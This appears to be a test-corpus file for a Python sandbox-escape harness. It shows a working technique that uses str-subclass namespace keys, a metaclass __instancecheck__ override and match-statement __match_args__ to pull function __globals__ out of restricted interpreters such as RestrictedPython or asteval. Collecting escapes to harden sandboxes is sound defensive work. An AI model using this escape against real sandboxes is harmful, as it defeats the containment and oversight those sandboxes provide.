# technique: class namespace keys that are str subclasses (hash and equality of '__instancecheck__') pass checks that look at type(k) is str, yet set the type slot
# source: RestrictedPython / asteval advisory class: str subclasses defeating name checks

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, json


class S(str):
    def __eq__(self, other):
        return str.__eq__(self, other)

    def __hash__(self):
        return str.__hash__(self)


def via():
    M = abc.ABCMeta('M', (abc.ABCMeta,), {S(dn('instancecheck')): lambda cls, o: True})
    P = M('P', (), {S(dn('match_args')): (dn('globals'),)})
    match json.dumps:
        case P(g):
            return g
    raise LookupError('no match')

attempt('str-subclass namespace keys', via)
